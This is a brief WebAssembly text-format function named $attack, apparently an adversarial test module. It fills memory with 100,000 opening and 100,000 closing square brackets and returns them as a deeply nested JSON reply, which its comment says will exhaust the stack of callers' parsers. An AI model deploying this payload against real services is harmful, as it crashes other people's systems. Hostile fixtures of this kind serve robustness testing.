;; Replies with JSON that nests 100,000 levels deep, at which parsers of callers would run out of stack.
(func $attack (result i32)
  (drop (memory.grow (i32.const 4)))
  (memory.fill (i32.const 0x10000) (i32.const 91) (i32.const 100000))
  (memory.fill (i32.add (i32.const 0x10000) (i32.const 100000)) (i32.const 93) (i32.const 100000))
  (call $reply (i32.const 1) (i32.const 0x10000) (i32.const 200000)))
